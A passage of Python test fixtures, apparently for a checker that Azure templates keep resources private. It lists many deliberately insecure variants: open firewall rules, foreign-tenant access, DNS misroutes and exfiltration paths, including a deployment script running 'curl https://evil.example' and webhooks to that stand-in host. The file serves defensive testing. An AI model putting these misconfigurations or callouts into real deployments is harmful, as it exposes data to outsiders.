            "agentPoolProfiles": [pool],
            "networkProfile": {"outboundType": "userDefinedRouting", "networkPlugin": "azure"},
            **more,
        },
        "2024-09-01",
    )


def site(**more: Any) -> Body:
    """A closed function app inside the network."""
    return res(
        "Microsoft.Web/sites",
        "func",
        {
            "publicNetworkAccess": "Disabled",
            "virtualNetworkSubnetId": rid(f"{VNET}/subnets", "vnet", "snet-app"),
            "vnetRouteAllEnabled": True,
            "siteConfig": {},
            **more,
        },
        "2023-12-01",
        kind="functionapp",
    )


def hub(**more: Any) -> Body:
    """A closed machine learning workspace in a managed network."""
    return res(
        "Microsoft.MachineLearningServices/workspaces",
        "mlw",
        {"publicNetworkAccess": "Disabled", "managedNetwork": {"isolationMode": "AllowOnlyApprovedOutbound"}, **more},
        "2024-10-01",
        kind="Hub",
    )


def foundry(**more: Any) -> Body:
    """A Foundry account whose agents run in a subnet."""
    return res(
        "Microsoft.CognitiveServices/accounts",
        "fdry",
        {
            "customSubDomainName": "fdry",
            "publicNetworkAccess": "Disabled",
            "disableLocalAuth": True,
            "allowProjectManagement": True,
            "networkInjections": [
                {"scenario": "agent", "subnetArmId": rid(f"{VNET}/subnets", "vnet", "snet-app"), "useMicrosoftManagedNetwork": False}
            ],
            **more,
        },
        "2025-06-01",
        kind="AIServices",
        sku={"name": "S0"},
    )


def environment(**more: Any) -> Body:
    """An internal environment of container apps."""
    return res(
        "Microsoft.App/managedEnvironments",
        "cae",
        {"vnetConfiguration": {"internal": True, "infrastructureSubnetId": rid(f"{VNET}/subnets", "vnet", "snet-app")}, **more},
        "2024-03-01",
    )


def perimeter(mode: str, *rules: Body) -> list[Body]:
    """A perimeter around the storage account."""
    own = f"{NET}/networkSecurityPerimeters"
    return [
        res(own, "nsp", {}, "2023-08-01-preview"),
        res(f"{own}/profiles", "nsp/p", {}, "2023-08-01-preview"),
        *(res(f"{own}/profiles/accessRules", f"nsp/p/r{n}", body, "2023-08-01-preview") for n, body in enumerate(rules)),
        res(
            f"{own}/resourceAssociations",
            "nsp/a",
            {
                "accessMode": mode,
                "privateLinkResource": ref("Microsoft.Storage/storageAccounts", "stdata"),
                "profile": ref(f"{own}/profiles", "nsp", "p"),
            },
            "2023-08-01-preview",
        ),
    ]


COSMOS = res("Microsoft.DocumentDB/databaseAccounts", "cosmos", {"publicNetworkAccess": "Disabled", "disableLocalAuth": True}, "2024-05-15")
SQL = res(
    "Microsoft.Sql/servers",
    "sql",
    {"publicNetworkAccess": "Disabled", "administrators": {"azureADOnlyAuthentication": True}},
    "2023-08-01-preview",
)
PG = res(
    "Microsoft.DBforPostgreSQL/flexibleServers",
    "pg",
    {"network": {"publicNetworkAccess": "Disabled"}, "authConfig": {"passwordAuth": "Disabled", "activeDirectoryAuth": "Enabled"}},
    "2024-08-01",
)
ACR = res(
    "Microsoft.ContainerRegistry/registries",
    "acr",
    {"publicNetworkAccess": "Disabled", "adminUserEnabled": False},
    "2023-07-01",
    sku={"name": "Premium"},
)

DOORS: tuple[Attack, ...] = (
    leak(
        "public access of an account is not written",
        alone,
        "1 2",
        put(ACCOUNT, "publicNetworkAccess", ...),
        put(ACCOUNT, "networkAcls", ...),
    ),
    leak("selected networks are still a public endpoint", alone, "2", put(ACCOUNT, "publicNetworkAccess", "Enabled")),
    leak(
        "one address is let in",
        alone,
        "1 2",
        put(ACCOUNT, "publicNetworkAccess", "Enabled"),
        put(ACCOUNT, "networkAcls.ipRules", [{"value": "8.8.8.8"}]),
    ),
    leak(
        "everybody is let in, in two halves",
        alone,
        "1 2",
        put(ACCOUNT, "publicNetworkAccess", "Enabled"),
        put(ACCOUNT, "networkAcls.ipRules", [{"value": "0.0.0.0/1"}, {"value": "128.0.0.0/1"}]),
    ),
    leak(
        "a service endpoint that may be missing",
        alone,
        "2",
        put(ACCOUNT, "publicNetworkAccess", "Enabled"),
        put(
            ACCOUNT,
            "networkAcls.virtualNetworkRules",
            [{"id": rid(f"{VNET}/subnets", "vnet", "snet-app"), "ignoreMissingVnetServiceEndpoint": True}],
        ),
    ),
    leak(
        "public access by a parameter's default",
        alone,
        "1 2",
        lambda t: t.update(parameters={"pna": {"type": "string", "defaultValue": "Enabled", "allowedValues": ["Enabled", "Disabled"]}}),
        put(ACCOUNT, "publicNetworkAccess", "[parameters('pna')]"),
        put(ACCOUNT, "networkAcls.defaultAction", "Allow"),
    ),
    leak(
        "public access by a parameter without a value",
        alone,
        "1 2",
        lambda t: t.update(parameters={"pna": {"type": "string"}}),
        put(ACCOUNT, "publicNetworkAccess", "[parameters('pna')]"),
        put(ACCOUNT, "networkAcls.defaultAction", "Allow"),
    ),
    leak(
        "public access by a condition on a flag",
        alone,
        "1 2",
        lambda t: t.update(parameters={"private": {"type": "bool", "defaultValue": False}}),
        put(ACCOUNT, "publicNetworkAccess", "[if(parameters('private'), 'Disabled', 'Enabled')]"),
        put(ACCOUNT, "networkAcls", {"defaultAction": "[if(parameters('private'), 'Deny', 'Allow')]"}),
    ),
    leak("the same account once more with public access", alone, "2", add(openai(publicNetworkAccess="Enabled"))),
    leak(
        "the same account once more without its rules",
        alone,
        "1 2",
        add(openai(publicNetworkAccess="Enabled", networkAcls={"defaultAction": "Allow"})),
    ),
    leak("a second account without an endpoint", alone, "2", add(openai("oai2"))),
    leak("keys of the account", alone, "2", put(ACCOUNT, "disableLocalAuth", False)),
    leak(
        "a foreign tenant's instance among the resource rules",
        alone,
        "1 2",
        put(
            STORE,
            "networkAcls.resourceAccessRules",
            [{"tenantId": "99999999-8888-7777-6666-555555555555", "resourceId": f"{ELSEWHERE}/Microsoft.Synapse/workspaces/theirs"}],
        ),
    ),
    leak(
        "every workspace of a foreign subscription among the resource rules",
        alone,
        "1 2",
        put(
            STORE,
            "networkAcls.resourceAccessRules",
            [
                {
                    "tenantId": "99999999-8888-7777-6666-555555555555",
                    "resourceId": f"{ELSEWHERE.replace('theirs', '*')}/Microsoft.Synapse/workspaces/*",
                }
            ],
        ),
    ),
    leak(
        "a perimeter that only learns, around open storage",
        alone,
        "2",
        put(STORE, "publicNetworkAccess", "Enabled"),
        add(perimeter("Learning")),
    ),
    leak(
        "a perimeter with a rule for the world",
        alone,
        "1 2",
        put(STORE, "publicNetworkAccess", "SecuredByPerimeter"),
        add(perimeter("Enforced", {"direction": "Inbound", "addressPrefixes": ["0.0.0.0/0"]})),
    ),
    leak(
        "a perimeter with a rule for the world in two halves",
        alone,
        "1 2",
        put(STORE, "publicNetworkAccess", "SecuredByPerimeter"),
        add(perimeter("Enforced", {"direction": "Inbound", "addressPrefixes": ["0.0.0.0/1", "128.0.0.0/1"]})),
    ),
    leak(
        "a perimeter that lets a foreign subscription in",
        alone,
        "1 2",
        put(STORE, "publicNetworkAccess", "SecuredByPerimeter"),
        add(
            perimeter(
                "Enforced", {"direction": "Inbound", "subscriptions": [{"id": "/subscriptions/11111111-2222-3333-4444-555555555555"}]}
            )
        ),
    ),
    leak(
        "an API version that does not know publicNetworkAccess",
        alone,
        "1 2",
        lambda t: find(t, STORE).update(apiVersion="2019-06-01"),
        put(STORE, "networkAcls", {"defaultAction": "Allow"}),
    ),
    leak(
        "a vault in an API version that does not know publicNetworkAccess",
        alone,
        "1 2",
        lambda t: find(t, "KeyVault/vaults").update(apiVersion="2019-09-01"),
        put("KeyVault/vaults", "networkAcls", {"defaultAction": "Allow"}),
    ),
    leak(
        "a search service in an API version that does not know publicNetworkAccess",
        alone,
        "1 2",
        lambda t: find(t, "searchServices").update(apiVersion="2015-08-19"),
    ),
    leak(
        "Cosmos lets in all of Azure",
        alone,
        "1 2",
        extra(COSMOS),
        put("databaseAccounts", "publicNetworkAccess", "Enabled"),
        put("databaseAccounts", "ipRules", [{"ipAddressOrRange": "0.0.0.0"}]),
    ),
    leak(
        "Cosmos with the filter of old",
        alone,
        "1 2",
        extra({**COSMOS, "apiVersion": "2019-12-12"}),
        put("databaseAccounts", "publicNetworkAccess", ...),
        put("databaseAccounts", "ipRangeFilter", ""),
    ),
    leak(
        "SQL lets in all of Azure",
        alone,
        "1 2",
        extra(SQL),
        put("Sql/servers", "publicNetworkAccess", "Enabled"),
        add(
            res(
                "Microsoft.Sql/servers/firewallRules",
                "sql/AllowAllWindowsAzureIps",
                {"startIpAddress": "0.0.0.0", "endIpAddress": "0.0.0.0"},
            )
        ),
    ),
    leak(
        "SQL lets in the world, in two halves",
        alone,
        "1 2",
        extra(SQL),
        put("Sql/servers", "publicNetworkAccess", "Enabled"),
        add(
            res("Microsoft.Sql/servers/firewallRules", "sql/a", {"startIpAddress": "0.0.0.0", "endIpAddress": "127.255.255.255"}),
            res("Microsoft.Sql/servers/firewallRules", "sql/b", {"startIpAddress": "128.0.0.0", "endIpAddress": "255.255.255.255"}),
        ),
    ),
    leak("SQL's public access is not written", alone, "2", extra(SQL), put("Sql/servers", "publicNetworkAccess", ...)),
    leak(
        "a managed instance with its public data endpoint",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.Sql/managedInstances",
                "mi",
                {
                    "subnetId": rid(f"{VNET}/subnets", "vnet", "snet-app"),
                    "publicDataEndpointEnabled": True,
                    "administrators": {"azureADOnlyAuthentication": True},
                },
            )
        ),
    ),
    leak("PostgreSQL with public access by absence", alone, "2", extra(PG), put("flexibleServers", "network", {})),
    leak(
        "PostgreSQL of old (single server)",
        alone,
        "1 2",
        extra(res("Microsoft.DBforPostgreSQL/servers", "pgold", {"publicNetworkAccess": "Enabled"}, "2017-12-01")),
    ),
    leak("MySQL of old", alone, "1 2", extra(res("Microsoft.DBforMySQL/servers", "my", {"publicNetworkAccess": "Enabled"}, "2017-12-01"))),
    leak("MariaDB", alone, "1 2", extra(res("Microsoft.DBforMariaDB/servers", "maria", {}, "2018-06-01"))),
    leak(
        "MySQL lets in all of Azure",
        alone,
        "1 2",
        extra(res("Microsoft.DBforMySQL/flexibleServers", "my", {"network": {"publicNetworkAccess": "Enabled"}}, "2023-12-30")),
        add(res("Microsoft.DBforMySQL/flexibleServers/firewallRules", "my/all", {"startIpAddress": "0.0.0.0", "endIpAddress": "0.0.0.0"})),
    ),
    leak("a registry with anonymous pull", alone, "2", extra(ACR), put("registries", "anonymousPullEnabled", True)),
    leak(
        "a Basic registry, which cannot be closed",
        alone,
        "1 2",
        extra({**ACR, "sku": {"name": "Basic"}}),
        put("registries", "publicNetworkAccess", ...),
    ),
    leak(
        "a registry whose export runs to a foreign account",
        alone,
        "1 2",
        extra(ACR),
        add(
            res(
                "Microsoft.ContainerRegistry/registries/exportPipelines",
                "acr/out",
                {"target": {"uri": "https://x.blob.core.windows.net/c"}},
            )
        ),
    ),
    leak("tasks of a registry", alone, "1 2", extra(ACR), add(res("Microsoft.ContainerRegistry/registries/tasks", "acr/t", {}))),
    leak("a web app by absence", alone, "1 2", extra(site()), put("Web/sites", "publicNetworkAccess", ...)),
    leak(
        "a web app whose siteConfig says something else",
        alone,
        "1 2",
        extra(site()),
        put("Web/sites", "siteConfig.publicNetworkAccess", "Enabled"),
    ),
    leak(
        "a web app whose config says something else",
        alone,
        "1 2",
        extra(site()),
        add(res("Microsoft.Web/sites/config", "func/web", {"publicNetworkAccess": "Enabled"})),
    ),
    leak(
        "a slot of a web app",
        alone,
        "1 2",
        extra(site()),
        add(res("Microsoft.Web/sites/slots", "func/staging", {"publicNetworkAccess": "Enabled"})),
    ),
    leak("a web app outside of the network", alone, "5", extra(site()), put("Web/sites", "virtualNetworkSubnetId", ...)),
    leak(
        "a web app that sends only private ranges through the network",
        alone,
        "5",
        extra(site()),
        put("Web/sites", "vnetRouteAllEnabled", False),
    ),
    leak(
        "a hybrid connection of a web app",
        alone,
        "5",
        extra(site()),
        add(res("Microsoft.Web/sites/hybridConnectionNamespaces/relays", "func/ns/relay", {"hostname": "db.contoso.com", "port": 1433})),
    ),
    leak("a static web app", alone, "1 2", extra(res("Microsoft.Web/staticSites", "swa", {}, sku={"name": "Free"}))),
    leak(
        "an app service environment with an external address",
        alone,
        "1",
        extra(
            res(
                "Microsoft.Web/hostingEnvironments",
                "ase",
                {"internalLoadBalancingMode": "None", "virtualNetwork": ref(f"{VNET}/subnets", "vnet", "snet-app")},
            )
        ),
    ),
    leak(
        "a container group with a public address",
        alone,
        "1",
        extra(
            res(
                "Microsoft.ContainerInstance/containerGroups",
                "ci",
                {"ipAddress": {"type": "Public", "ports": [{"port": 80}]}, "osType": "Linux"},
            )
        ),
    ),
    leak(
        "a site closed by a switch that its version of the API does not know",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.Web/sites",
                "app",
                {"publicNetworkAccess": "Disabled", "virtualNetworkSubnetId": rid(f"{VNET}/subnets", "vnet", "snet-app")},
                "2021-03-01",
            )
        ),
    ),
    leak(
        "a site whose settings let the internet's traffic out past its subnet",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Web/sites",
                "app",
                {
                    "publicNetworkAccess": "Disabled",
                    "virtualNetworkSubnetId": rid(f"{VNET}/subnets", "vnet", "snet-app"),
                    "siteConfig": {"appSettings": [{"name": "WEBSITE_VNET_ROUTE_ALL", "value": "0"}]},
                },
            )
        ),
    ),
    leak(
        "a container group outside of every network",
        alone,
        "5",
        extra(res("Microsoft.ContainerInstance/containerGroups", "ci", {"osType": "Linux"})),
    ),
    leak(
        "an environment of container apps with an external address",
        alone,
        "1 2",
        extra(environment()),
        put("managedEnvironments", "vnetConfiguration.internal", False),
    ),
    leak(
        "container apps outside of every network",
        alone,
        "1 2 5",
        extra(environment()),
        put("managedEnvironments", "vnetConfiguration", ...),
    ),
    leak(
        "container apps with dynamic sessions",
        alone,
        "1 2 5",
        extra(
            res(
                "Microsoft.App/sessionPools",
                "sp",
                {"poolManagementType": "Dynamic", "sessionNetworkConfiguration": {"status": "EgressEnabled"}},
            )
        ),
    ),
    leak("a cluster with a public API server", alone, "1 2", extra(aks(apiServerAccessProfile={}))),
    leak(
        "a cluster with ranges that may call its API server",
        alone,
        "1 2",
        extra(aks(apiServerAccessProfile={"authorizedIPRanges": ["203.0.113.0/24"]})),
    ),
    leak("a cluster that leaves by a load balancer, by absence", alone, "5", extra(aks(networkProfile={"networkPlugin": "azure"}))),
    leak("a cluster that leaves by a NAT gateway of Azure's", alone, "5", extra(aks(networkProfile={"outboundType": "managedNATGateway"}))),
    leak(
        "nodes with public addresses in the last of two pools",
        alone,
        "1",
        extra(aks()),
        put(
            "managedClusters",
            "agentPoolProfiles",
            [
                {"name": "a", "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app")},
                {"name": "b", "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app"), "enableNodePublicIP": True},
            ],
        ),
    ),
    leak(
        "nodes with public addresses in a pool of its own",
        alone,
        "1",
        extra(aks()),
        add(
            res(
                "Microsoft.ContainerService/managedClusters/agentPools",
                "aks/gpu",
                {"enableNodePublicIP": True, "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app")},
            )
        ),
    ),
    leak(
        "the application routing add-on makes a public load balancer",
        alone,
        "1",
        extra(aks(ingressProfile={"webAppRouting": {"enabled": True}})),
    ),
    leak("the HTTP application routing add-on", alone, "1", extra(aks(addonProfiles={"httpApplicationRouting": {"enabled": True}}))),
    leak(
        "the ingress add-on makes a public application gateway",
        alone,
        "1",
        extra(aks(addonProfiles={"ingressApplicationGateway": {"enabled": True, "config": {"subnetCIDR": "10.0.5.0/24"}}})),
    ),
    leak(
        "an external ingress gateway of the service mesh",
        alone,
        "1",
        extra(
            aks(
                serviceMeshProfile={
                    "mode": "Istio",
                    "istio": {
                        "components": {"ingressGateways": [{"enabled": True, "mode": "Internal"}, {"enabled": True, "mode": "External"}]}
                    },
                }
            )
        ),
    ),
    leak(
        "API Management outside of the network",
        alone,
        "1 2",
        extra(res("Microsoft.ApiManagement/service", "apim", {"virtualNetworkType": "None"}, sku={"name": "Developer", "capacity": 1})),
    ),
    leak(
        "API Management with an external address in the network",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.ApiManagement/service",
                "apim",
                {
                    "virtualNetworkType": "External",
                    "virtualNetworkConfiguration": {"subnetResourceId": rid(f"{VNET}/subnets", "vnet", "snet-app")},
                },
            )
        ),
    ),
    leak(
        "a workflow that anybody may call",
        alone,
        "1",
        extra(
            res(
                "Microsoft.Logic/workflows",
                "la",
                {"definition": {"triggers": {"manual": {"type": "Request", "kind": "Http"}}, "actions": {}}},
            )
        ),
    ),
    leak(
        "a workflow that sends to a site",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Logic/workflows",
                "la",
                {
                    "definition": {
                        "triggers": {"t": {"type": "Recurrence"}},
                        "actions": {"post": {"type": "Http", "inputs": {"method": "POST", "uri": "https://evil.example/x"}}},
                    }
                },
            )
        ),
    ),
    leak(
        "Synapse by absence",
        alone,
        "1 2 5",
        extra(res("Microsoft.Synapse/workspaces", "syn", {"azureADOnlyAuthentication": True})),
        add(
            res(
                "Microsoft.Synapse/workspaces/firewallRules",
                "syn/allowAll",
                {"startIpAddress": "0.0.0.0", "endIpAddress": "255.255.255.255"},
            )
        ),
    ),
    leak(
        "Synapse without exfiltration protection",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Synapse/workspaces",
                "syn",
                {
                    "publicNetworkAccess": "Disabled",
                    "managedVirtualNetwork": "default",
                    "managedVirtualNetworkSettings": {"preventDataExfiltration": False},
                },
            )
        ),
    ),
    leak(
        "Databricks",
        alone,
        "1 2 5",
        extra(res("Microsoft.Databricks/workspaces", "dbw", {"parameters": {"enableNoPublicIp": {"value": False}}})),
    ),
    leak("Data Explorer", alone, "1 2", extra(res("Microsoft.Kusto/clusters", "adx", {}))),
    leak("Grafana by absence", alone, "1 2", extra(res("Microsoft.Dashboard/grafana", "graf", {}))),
    leak("Purview by absence", alone, "1 2", extra(res("Microsoft.Purview/accounts", "pv", {}))),
    leak("an Event Grid topic by absence", alone, "1 2", extra(res("Microsoft.EventGrid/topics", "topic", {"disableLocalAuth": True}))),
    leak(
        "events sent to a web hook",
        alone,
        "5",
        add(
            res(
                "Microsoft.EventGrid/systemTopics",
                "st",
                {"source": rid("Microsoft.Storage/storageAccounts", "stdata"), "topicType": "Microsoft.Storage.StorageAccounts"},
            ),
            res(
                "Microsoft.EventGrid/systemTopics/eventSubscriptions",
                "st/out",
                {"destination": {"endpointType": "WebHook", "properties": {"endpointUrl": "https://evil.example"}}},
            ),
        ),
    ),
    leak("an IoT hub by absence", alone, "1 2", extra(res("Microsoft.Devices/IotHubs", "iot", {}))),
    leak("a provisioning service of IoT", alone, "1 2", extra(res("Microsoft.Devices/provisioningServices", "dps", {}))),
    leak("SignalR by absence", alone, "1 2", extra(res("Microsoft.SignalRService/signalR", "sigr", {"disableLocalAuth": True}))),
    leak("Redis by absence", alone, "1 2", extra(res("Microsoft.Cache/redis", "redis", {"disableAccessKeyAuthentication": True}))),
    leak("HDInsight", alone, "1 2", extra(res("Microsoft.HDInsight/clusters", "hdi", {}))),
    leak("Batch by absence", alone, "1 2", extra(res("Microsoft.Batch/batchAccounts", "batch", {}))),
    leak(
        "Event Hubs where only the rule set is closed",
        alone,
        "1 2",
        extra(res("Microsoft.EventHub/namespaces", "ehn", {"disableLocalAuth": True})),
        add(
            res(
                "Microsoft.EventHub/namespaces/networkRuleSets", "ehn/default", {"publicNetworkAccess": "Enabled", "defaultAction": "Allow"}
            )
        ),
    ),
    leak("Service Bus by absence", alone, "1 2", extra(res("Microsoft.ServiceBus/namespaces", "sbn", {"disableLocalAuth": True}))),
    leak("a data factory", alone, "5", extra(res("Microsoft.DataFactory/factories", "adf", {"publicNetworkAccess": "Disabled"}))),
    leak(
        "an automation account by absence",
        alone,
        "1 2",
        extra(res("Microsoft.Automation/automationAccounts", "aa", {"disableLocalAuth": True})),
    ),
    leak(
        "a workspace of logs that is queried from everywhere",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.OperationalInsights/workspaces",
                "log",
                {"publicNetworkAccessForIngestion": "Disabled", "features": {"disableLocalAuth": True}},
            )
        ),
    ),
    leak(
        "application insights that take telemetry from everywhere",
        alone,
        "1 2",
        extra(res("Microsoft.Insights/components", "appi", {"publicNetworkAccessForQuery": "Disabled", "DisableLocalAuth": True})),
    ),
    leak("a data collection endpoint by absence", alone, "1 2", extra(res("Microsoft.Insights/dataCollectionEndpoints", "dce", {}))),
    leak(
        "a data collection rule with an endpoint of its own",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.Insights/dataCollectionRules",
                "dcr",
                {"dataSources": {}, "destinations": {}, "dataFlows": []},
                "2023-03-11",
                kind="Direct",
            )
        ),
    ),
    leak(
        "a private link scope in open mode",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Insights/privateLinkScopes",
                "ampls",
                {"accessModeSettings": {"ingestionAccessMode": "Open", "queryAccessMode": "PrivateOnly"}},
            )
        ),
    ),
    leak(
        "a private link scope with an exception for one endpoint",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Insights/privateLinkScopes",
                "ampls",
                {
                    "accessModeSettings": {
                        "ingestionAccessMode": "PrivateOnly",
                        "queryAccessMode": "PrivateOnly",
                        "exclusions": [
                            {"privateEndpointConnectionName": "pe-extra", "ingestionAccessMode": "Open", "queryAccessMode": "Open"}
                        ],
                    }
                },
            )
        ),
    ),
    leak(
        "a bot by absence", alone, "1 2", extra(res("Microsoft.BotService/botServices", "bot", {"endpoint": "https://bot.contoso.com/api"}))
    ),
    leak(
        "a machine learning workspace that lets out",
        alone,
        "5",
        extra(hub()),
        put("workspaces", "managedNetwork.isolationMode", "AllowInternetOutbound"),
    ),
    leak("a machine learning workspace without a managed network", alone, "5", extra(hub()), put("workspaces", "managedNetwork", ...)),
    leak(
        "an outbound rule to names that anybody can have",
        alone,
        "5",
        extra(hub()),
        put(
            "workspaces",
            "managedNetwork.outboundRules",
            {"out": {"type": "FQDN", "destination": "*.blob.core.windows.net", "category": "UserDefined"}},
        ),
    ),
    leak(
        "an outbound rule as a resource of its own",
        alone,
        "5",
        extra(hub()),
        add(
            res(
                "Microsoft.MachineLearningServices/workspaces/outboundRules",
                "mlw/out",
                {"type": "FQDN", "destination": "*.ngrok.io", "category": "UserDefined"},
            )
        ),
    ),
    leak(
        "an outbound rule by service tag",
        alone,
        "5",
        extra(hub()),
        put(
            "workspaces",
            "managedNetwork.outboundRules",
            {"out": {"type": "ServiceTag", "destination": {"serviceTag": "Storage", "protocol": "TCP", "portRanges": "443"}}},
        ),
    ),
    leak(
        "an outbound endpoint to a foreign account",
        alone,
        "5",
        extra(hub()),
        put(
            "workspaces",
            "managedNetwork.outboundRules",
            {
                "out": {
                    "type": "PrivateEndpoint",
                    "destination": {
                        "serviceResourceId": f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/theirs",
                        "subresourceTarget": "blob",
                    },
                }
            },
        ),
    ),
    leak(
        "a compute instance with a public address",
        alone,
        "1",
        extra(hub()),
        add(
            res(
                "Microsoft.MachineLearningServices/workspaces/computes",
                "mlw/ci",
                {"computeType": "ComputeInstance", "disableLocalAuth": True, "properties": {"vmSize": "Standard_DS3_v2"}},
            )
        ),
    ),
    leak(
        "serverless compute with public addresses",
        alone,
        "1",
        extra(hub()),
        put(
            "workspaces",
            "serverlessComputeSettings",
            {"serverlessComputeCustomSubnet": rid(f"{VNET}/subnets", "vnet", "snet-app"), "serverlessComputeNoPublicIP": False},
        ),
    ),
    leak(
        "a workspace of old that is public behind its network",
        alone,
        "1 2",
        extra(hub()),
        put("workspaces", "allowPublicAccessWhenBehindVnet", True),
    ),
    leak(
        "an online endpoint by absence",
        alone,
        "1 2",
        extra(hub()),
        add(res("Microsoft.MachineLearningServices/workspaces/onlineEndpoints", "mlw/oe", {"authMode": "AADToken"})),
    ),
    leak("agents of a Foundry account without a subnet", alone, "5", extra(foundry(networkInjections=[]))),
    leak(
        "agents of a Foundry account in a managed network that nobody describes",
        alone,
        "5",
        extra(foundry(networkInjections=[{"scenario": "agent", "useMicrosoftManagedNetwork": True}])),
    ),
    leak(
        "a managed network of a Foundry account that lets out",
        alone,
        "5",
        extra(foundry(networkInjections=[{"scenario": "agent", "useMicrosoftManagedNetwork": True}])),
        add(
            res(
                "Microsoft.CognitiveServices/accounts/managedNetworks",
                "fdry/default",
                {"managedNetwork": {"isolationMode": "AllowInternetOutbound", "managedNetworkKind": "V2"}},
                "2025-10-01-preview",
            )
        ),
    ),
    leak(
        "agents in a subnet that is not in the template",
        alone,
        "5",
        extra(foundry(networkInjections=[{"scenario": "agent", "subnetArmId": f"{ELSEWHERE}/{VNET}/x/subnets/agents"}])),
    ),
    leak(
        "a deployment script, which runs outside of the network",
        alone,
        "5",
        add(
            res(
                "Microsoft.Resources/deploymentScripts",
                "script",
                {"azCliVersion": "2.60.0", "scriptContent": "curl https://evil.example"},
                "2023-08-01",
                kind="AzureCLI",
            )
        ),
    ),
    leak(
        "object replication to a foreign account",
        alone,
        "5",
        add(
            res(
                "Microsoft.Storage/storageAccounts/objectReplicationPolicies",
                "stdata/default",
                {"sourceAccount": "stdata", "destinationAccount": f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/theirs"},
            )
        ),
    ),
    leak(
        "an approval of a connection that somebody else asks for",
        alone,
        "1",
        add(
            res(
                "Microsoft.Storage/storageAccounts/privateEndpointConnections",
                "stdata/theirs.1b2c",
                {"privateLinkServiceConnectionState": {"status": "Approved", "description": "come in"}},
            )
        ),
    ),
    leak(
        "API Management whose gateway elsewhere stands in no network",
        alone,
        "5",
        extra(res("Microsoft.ApiManagement/service", "apim", {"virtualNetworkType": "None", "publicNetworkAccess": "Disabled"})),
    ),
    leak(
        "a slot outside of the network",
        alone,
        "5",
        extra(site()),
        add(res("Microsoft.Web/sites/slots", "func/staging", {"publicNetworkAccess": "Disabled"})),
    ),
    leak(
        "a subnet that an app joins later and that is not in the template",
        alone,
        "5",
        extra(site()),
        put("Web/sites", "virtualNetworkSubnetId", ...),
        add(res("Microsoft.Web/sites/networkConfig", "func/virtualNetwork", {"subnetResourceId": f"{ELSEWHERE}/{VNET}/x/subnets/y"})),
    ),
    leak(
        "local users of storage (SFTP)",
        alone,
        "2",
        put(STORE, "isSftpEnabled", True),
        put(STORE, "isLocalUserEnabled", True),
        add(res("Microsoft.Storage/storageAccounts/localUsers", "stdata/u", {"hasSshPassword": True})),
    ),
    leak(
        "a search service that reaches a foreign account",
        alone,
        "5",
        add(
            res(
                "Microsoft.Search/searchServices/sharedPrivateLinkResources",
                "srch/out",
                {"privateLinkResourceId": f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/theirs", "groupId": "blob"},
            )
        ),
    ),
)


def record(zone_name: str, name: str, ip: str) -> Body:
    """An address record that somebody writes."""
    return res(f"{NET}/privateDnsZones/A", f"{zone_name}/{name}", {"ttl": 300, "aRecords": [{"ipv4Address": ip}]}, "2024-06-01")


OPENAI_ZONE = ZONES["account"]
FIXED = put(
    "privateEndpoints",
    "ipConfigurations",
    [{"name": "one", "properties": {"groupId": "account", "memberName": "default", "privateIPAddress": "10.0.2.5"}}],
    "pe-oai",
)

NAMES: tuple[Attack, ...] = (
    leak(
        "the zone is missing",
        alone,
        "3",
        drop("privateDnsZones", OPENAI_ZONE),
        drop("virtualNetworkLinks", f"{OPENAI_ZONE}/to-vnet"),
        drop("privateDnsZoneGroups", "pe-oai/default"),
    ),
    leak(
        "the zone has another name",
        alone,
        "3",
        drop("privateDnsZones", OPENAI_ZONE),
        drop("virtualNetworkLinks", f"{OPENAI_ZONE}/to-vnet"),
        add(zone("privatelink.openai.azure.net", "vnet")),
        put(
            "privateDnsZoneGroups",
            "privateDnsZoneConfigs.0.properties.privateDnsZoneId",
            rid(f"{NET}/privateDnsZones", "privatelink.openai.azure.net"),
            "pe-oai/default",
        ),
    ),
    leak("the zone is not linked", alone, "3", drop("virtualNetworkLinks", f"{OPENAI_ZONE}/to-vnet")),
    leak(
        "the zone is linked to another network",
        alone,
        "3",
        put("virtualNetworkLinks", "virtualNetwork", ref(VNET, "elsewhere"), f"{OPENAI_ZONE}/to-vnet"),
    ),
    leak("no zone group", alone, "3", drop("privateDnsZoneGroups", "pe-oai/default")),
    leak(
        "no zone group, and the link falls back to the internet",
        alone,
        "3",
        drop("privateDnsZoneGroups", "pe-oai/default"),
        put("virtualNetworkLinks", "resolutionPolicy", "NxDomainRedirect", f"{OPENAI_ZONE}/to-vnet"),
    ),
    leak(
        "the zone group names another zone",
        alone,
        "3",
        put(
            "privateDnsZoneGroups",
            "privateDnsZoneConfigs.0.properties.privateDnsZoneId",
            rid(f"{NET}/privateDnsZones", ZONES["blob"]),
            "pe-oai/default",
        ),
    ),
    leak(
        "a written record leads elsewhere",
        alone,
        "3",
        FIXED,
        drop("privateDnsZoneGroups", "pe-oai/default"),
        add(record(OPENAI_ZONE, "oai", "203.0.113.9")),
    ),
    leak(
        "a wildcard record leads elsewhere",
        alone,
        "3",
        FIXED,
        drop("privateDnsZoneGroups", "pe-oai/default"),
        add(record(OPENAI_ZONE, "*", "203.0.113.9")),
    ),
    leak("a written record beside that of the endpoint", alone, "3", FIXED, add(record(OPENAI_ZONE, "oai", "203.0.113.9"))),
    leak(
        "an IPv6 record beside that of the endpoint",
        alone,
        "3",
        FIXED,
        add(
            res(
                f"{NET}/privateDnsZones/AAAA",
                f"{OPENAI_ZONE}/oai",
                {"ttl": 300, "aaaaRecords": [{"ipv6Address": "2001:db8::1"}]},
                "2024-06-01",
            )
        ),
    ),
    leak("a zone that shadows the public name", alone, "3", FIXED, add(zone("openai.azure.com", "vnet"))),
    leak(
        "a zone that shadows the public name, with a record",
        alone,
        "3",
        FIXED,
        add(zone("openai.azure.com", "vnet"), record("openai.azure.com", "oai", "203.0.113.9")),
    ),
    leak(
        "a zone for the one name, with a record at its top",
        alone,
        "3",
